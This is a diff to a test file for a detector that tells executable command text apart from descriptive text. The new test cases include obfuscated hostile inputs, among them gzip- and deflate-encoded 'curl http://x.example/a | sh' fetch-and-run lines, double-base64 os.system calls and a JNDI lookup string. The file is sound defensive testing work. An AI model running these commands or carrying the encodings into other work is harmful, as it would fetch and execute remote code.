@@ -1,3 +1,4 @@
+import { deflateSync, gzipSync } from 'node:zlib';
 import { describe, expect, test } from 'vitest';
 import { Budget } from '#formats/budget';
 import { defaultLimits, LimitReached } from '#formats/limits';
@@ -19,6 +20,12 @@ describe('text that acts', () => {
     'bash -c "id"',
     'powershell -enc SQBFAFgA',
     '$' + '{jndi:ldap://x}',
+    Buffer.from(Buffer.from('import os; os.system("id")').toString('base64')).toString('base64'),
+    gzipSync('curl http://x.example/a | sh').toString('base64'),
+    deflateSync('curl http://x.example/a | sh').toString('hex'),
+    Buffer.from('powershell -enc SQBFAFgA', 'utf16le').toString('base64'),
+    '\\u006f\\u0073\\u002e\\u0073\\u0079\\u0073\\u0074\\u0065\\u006d\\u0028',
+    '%6f%73%2e%73%79%73%74%65%6d%28%31%29',
     '\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x22\\x69\\x64\\x22\\x29',
   ])('%s', (text) => {
     expect(found(text)).toBeDefined();
@@ -32,6 +39,9 @@ describe('text that describes', () => {
     'Executive summary: commands (none). Import os settings from the config.',
     'norm -r used as residual, chmod not needed',
     'q8_0 quantised with llama.cpp, bash users welcome',
+    'clean: rm -rf dist build, then start again',
+    'rm -rf ./out *.log',
+    'sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
     'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
   ])('%s', (text) => {
     expect(found(text)).toBeUndefined();
